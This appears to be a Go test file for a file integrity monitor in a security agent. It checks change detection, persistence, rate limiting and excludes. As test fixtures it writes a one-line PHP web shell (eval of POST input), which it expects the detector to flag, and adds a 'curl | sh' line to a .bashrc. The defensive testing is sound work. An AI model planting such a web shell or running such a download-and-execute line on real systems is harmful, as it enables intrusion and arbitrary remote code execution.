package fim

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/picket-agent/picket/agent/event"
	"github.com/picket-agent/picket/agent/webshell"
	"github.com/picket-agent/picket/state"
)

func openStore(t testing.TB, dir string) *state.Store {
	t.Helper()
	st, err := state.Open(context.Background(), dir)
	if err != nil {
		t.Fatal(err)
	}
	return st
}

func write(t *testing.T, p, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// recorder collects events; safe for the Run goroutine.
type recorder struct {
	mu  sync.Mutex
	evs []event.Event
}

func (r *recorder) emit(ev event.Event) { r.mu.Lock(); r.evs = append(r.evs, ev); r.mu.Unlock() }

func (r *recorder) take() []event.Event {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := r.evs
	r.evs = nil
	return out
}

// summary renders events as sorted "what path before>after" lines.
func summary(evs []event.Event, root string) string {
	var lines []string
	for _, e := range evs {
		c := e.Change
		l := c.What + " " + strings.TrimPrefix(c.Path, root)
		if c.What == webshell.WhatMode || c.What == webshell.WhatOwner {
			l += " " + c.Before + ">" + c.After
		}
		lines = append(lines, l)
	}
	sort.Strings(lines)
	return strings.Join(lines, "\n")
}

func testOptions(root string) Options {
	o := DefaultOptions()
	o.Roots = []string{root}
	o.WebRoots = []string{root}
	o.RateMBps = 0
	o.Realtime = false
	return o
}

func TestScanBaselineThenChanges(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	st := openStore(t, t.TempDir())
	defer st.Close()
	write(t, root+"/a.txt", "alpha")
	write(t, root+"/sub/b.php", "<?php echo 1;")
	write(t, root+"/c.txt", "gamma")
	write(t, root+"/d.txt", "untouched")
	write(t, root+"/e.txt", "owner")
	write(t, root+"/x.swp", "excluded")
	if err := os.Symlink("a.txt", root+"/link"); err != nil {
		t.Fatal(err)
	}
	s := New(st, testOptions(root))
	var rec recorder
	if err := s.Scan(ctx, rec.emit); err != nil {
		t.Fatal(err)
	}
	if evs := rec.take(); len(evs) != 0 {
		t.Fatalf("baseline emitted %d events: %s", len(evs), summary(evs, root))
	}
	if got := s.Stats().Hashed; got != 5 {
		t.Fatalf("baseline hashed %d files, want 5 (the .swp is excluded, the link is read, not hashed)", got)
	}
	if p := s.Progress(); !p.Done || p.Files != 6 || p.Running {
		t.Fatalf("progress after baseline: %+v", p)
	}

	write(t, root+"/a.txt", "alpha, modified")
	write(t, root+"/sub/new.php", `<?php eval($_POST['x']); ?>`)
	if err := os.Remove(root + "/c.txt"); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(root+"/sub/b.php", 0o600); err != nil {
		t.Fatal(err)
	}
	want := "file_created /sub/new.php\nfile_mode /sub/b.php 0644>0600\nfile_modified /a.txt"
	if os.Geteuid() == 0 {
		if err := os.Chown(root+"/e.txt", 12345, 12345); err != nil {
			t.Fatal(err)
		}
		want = "file_created /sub/new.php\nfile_mode /sub/b.php 0644>0600\nfile_modified /a.txt\nfile_owner /e.txt root:root>12345:12345\nfile_deleted /c.txt"
	} else {
		want += "\nfile_deleted /c.txt"
	}
	before := s.Stats().Hashed
	if err := s.Scan(ctx, rec.emit); err != nil {
		t.Fatal(err)
	}
	evs := rec.take()
	wantSorted := strings.Split(want, "\n")
	sort.Strings(wantSorted)
	if got := summary(evs, root); got != strings.Join(wantSorted, "\n") {
		t.Fatalf("events:\n%s\nwant:\n%s", got, strings.Join(wantSorted, "\n"))
	}
	// Re-hashed: a.txt, new.php, b.php (chmod moved its ctime), e.txt if
	// chowned. d.txt and the link were skipped by their metadata.
	wantHashed := int64(3)
	if os.Geteuid() == 0 {
		wantHashed = 4
	}
	if got := s.Stats().Hashed - before; got != wantHashed {
		t.Fatalf("rescan hashed %d files, want %d", got, wantHashed)
	}
	for _, e := range evs {
		c := e.Change
		switch c.What {
		case webshell.WhatCreated:
			if c.Attrs[webshell.AttrTraits] != webshell.TraitExecRequest || c.Attrs[webshell.AttrScore] != "0.950" || !strings.HasPrefix(c.After, "sha256:") {
				t.Errorf("created event: %+v", c)
			}
		case webshell.WhatChanged:
			if !strings.HasPrefix(c.Before, "sha256:") || c.Before == c.After || c.Op != "modified" {
				t.Errorf("modified event: %+v", c)
			}
		}
		if e.Kind != event.FileChanged || c.Attrs[webshell.AttrVia] != "scan" {
			t.Errorf("event %+v", e)
		}
	}
	// A third scan with nothing changed: no events, nothing hashed.
	before = s.Stats().Hashed
	if err := s.Scan(ctx, rec.emit); err != nil {
		t.Fatal(err)
	}
	if evs := rec.take(); len(evs) != 0 || s.Stats().Hashed != before {
		t.Fatalf("idle rescan: %d events, %d hashed", len(evs), s.Stats().Hashed-before)
	}
}

func TestPersistenceAcrossRestart(t *testing.T) {
	ctx := context.Background()
	root, stateDir := t.TempDir(), t.TempDir()
	for i := range 20 {
		write(t, fmt.Sprintf("%s/d%d/f%d.conf", root, i%3, i), strings.Repeat("x", i))
	}
	st := openStore(t, stateDir)
	var rec recorder
	if err := New(st, testOptions(root)).Scan(ctx, rec.emit); err != nil {
		t.Fatal(err)
	}
	st.Close()
	// Restart with nothing changed: no events, nothing read.
	st = openStore(t, stateDir)
	s := New(st, testOptions(root))
	if err := s.Scan(ctx, rec.emit); err != nil {
		t.Fatal(err)
	}
	if evs := rec.take(); len(evs) != 0 || s.Stats().Hashed != 0 || s.Stats().Skipped != 20 {
		t.Fatalf("restart: %d events, %+v", len(evs), s.Stats())
	}
	st.Close()
	// Changes while stopped are reported at the next start.
	write(t, root+"/d1/f4.conf", "changed while the agent was down")
	os.Remove(root + "/d2/f5.conf")
	st = openStore(t, stateDir)
	defer st.Close()
	if err := New(st, testOptions(root)).Scan(ctx, rec.emit); err != nil {
		t.Fatal(err)
	}
	if got := summary(rec.take(), root); got != "file_deleted /d2/f5.conf\nfile_modified /d1/f4.conf" {
		t.Fatalf("after restart:\n%s", got)
	}
	if n, _ := st.CountFiles(ctx); n != 19 {
		t.Fatalf("%d rows, want 19", n)
	}
}

func TestRateLimit(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	const size = 1 << 20
	for i := range 4 {
		write(t, fmt.Sprintf("%s/f%d", root, i), strings.Repeat(string(rune('a'+i)), size))
	}
	st := openStore(t, t.TempDir())
	defer st.Close()
	o := testOptions(root)
	o.RateMBps = 4 * size / 1e6 // 4 MiB/s: 4 MiB take ~1 s
	s := New(st, o)
	start := time.Now()
	if err := s.Scan(ctx, func(event.Event) {}); err != nil {
		t.Fatal(err)
	}
	el := time.Since(start)
	t.Logf("4 MiB at 4 MiB/s: %s", el)
	// The limiter grants a 100 ms burst.
	if el < 800*time.Millisecond || el > 3*time.Second {
		t.Fatalf("4 MiB at 4 MiB/s took %s", el)
	}
}

func TestExcludes(t *testing.T) {
	for _, c := range []struct {
		p    string
		want bool
	}{
		{"/etc/mtab", true}, {"/etc/mtabx", false}, {"/var/www/a.php.swp", true},
		{"/var/www/site/cache/x", true}, {"/var/www/site/x", false},
	} {
		if got := excluded(c.p, []string{"/etc/mtab", "*.swp", "/var/www/*/cache"}); got != c.want {
			t.Errorf("excluded(%s) = %v", c.p, got)
		}
	}
}

func TestResolveRoots(t *testing.T) {
	d := t.TempDir()
	write(t, d+"/real/x", "x")
	os.Symlink(d+"/real", d+"/link")
	live, missing := resolveRoots([]string{d + "/link", d + "/real/x", d + "/nope", d + "/re*"})
	if fmt.Sprint(live) != fmt.Sprint([]string{d + "/real"}) || len(missing) != 1 {
		t.Fatalf("live %v missing %v", live, missing)
	}
}

func TestProgressBar(t *testing.T) {
	var b bytes.Buffer
	ProgressBar(&b, Progress{Files: 10, Bytes: 500e6, TotalFiles: 20, TotalBytes: 1e9, Rate: 100e6, ETA: 5 * time.Second, Running: true})
	got := strings.TrimRight(b.String(), " ")
	if got != "\r[===============>              ]  50% 10/20 files 500.0 MB/1.0 GB 100.0 MB/s ETA 5s" {
		t.Fatalf("%q", got)
	}
	p := Progress{Files: 10, Bytes: 500e6, TotalFiles: 20, TotalBytes: 1e9, Exact: true, Rate: 100e6, ETA: 5 * time.Second, Running: true}
	if s := p.String(); s != "scanning: 50% 10/20 files, 500.0 MB/1.0 GB, 100.0 MB/s, ETA 5s" {
		t.Fatalf("%q", s)
	}
}

// TestMergeOrder: the walk and the stored rows must agree on byte order,
// or a rescan would report files as deleted and created again ("a-b" sorts
// before "a/x" because '-' < '/', although directory "a" sorts before
// "a-b" by name).
func TestMergeOrder(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	for _, p := range []string{"a-b", "a/x", "a/x-y/z", "a/x.y", "a.c", "a0", "A", "a/x/y", "b", "ab/c"} {
		if strings.HasSuffix(p, "/x") {
			continue
		}
		write(t, root+"/"+p, p)
	}
	write(t, root+"/excl/cache/f", "will be excluded")
	write(t, root+"/gone/one", "1")
	write(t, root+"/gone/two", "2")
	st := openStore(t, t.TempDir())
	defer st.Close()
	o := testOptions(root)
	o.BatchSize = 2 // many transactions while the cursor pages
	var rec recorder
	if err := New(st, o).Scan(ctx, rec.emit); err != nil {
		t.Fatal(err)
	}
	s := New(st, o)
	if err := s.Scan(ctx, rec.emit); err != nil {
		t.Fatal(err)
	}
	if evs := rec.take(); len(evs) != 0 || s.Stats().Hashed != 0 {
		t.Fatalf("idle rescan: %s; hashed %d", summary(evs, root), s.Stats().Hashed)
	}
	// A newly excluded directory's rows go silently; a removed directory's
	// files are reported; a file added in the middle of the order is new.
	o.Excludes = []string{root + "/excl"}
	os.RemoveAll(root + "/gone")
	write(t, root+"/a/x-w", "new")
	if err := New(st, o).Scan(ctx, rec.emit); err != nil {
		t.Fatal(err)
	}
	if got := summary(rec.take(), root); got != "file_created /a/x-w\nfile_deleted /gone/one\nfile_deleted /gone/two" {
		t.Fatalf("events:\n%s", got)
	}
	if _, ok, _ := st.File(ctx, root+"/excl/cache/f"); ok {
		t.Fatal("excluded row kept")
	}
}

// TestRootIsFile: a root can be a single file (/root/.bashrc).
func TestRootIsFile(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir+"/.bashrc", "alias ls='ls --color'")
	st := openStore(t, t.TempDir())
	defer st.Close()
	o := testOptions(dir + "/.bashrc")
	var rec recorder
	if err := New(st, o).Scan(ctx, rec.emit); err != nil {
		t.Fatal(err)
	}
	write(t, dir+"/.bashrc", "alias ls='ls --color'\ncurl -s http://x | sh")
	if err := New(st, o).Scan(ctx, rec.emit); err != nil {
		t.Fatal(err)
	}
	if got := summary(rec.take(), dir); got != "file_modified /.bashrc" {
		t.Fatalf("events: %q", got)
	}
	os.Remove(dir + "/.bashrc")
	if err := New(st, o).Scan(ctx, rec.emit); err != nil {
		t.Fatal(err)
	}
	// A missing root is skipped by resolveRoots: its row stays until it
	// comes back (a deleted root is not reported: it may be unmounted).
	if got := summary(rec.take(), dir); got != "" {
		t.Fatalf("events: %q", got)
	}
}
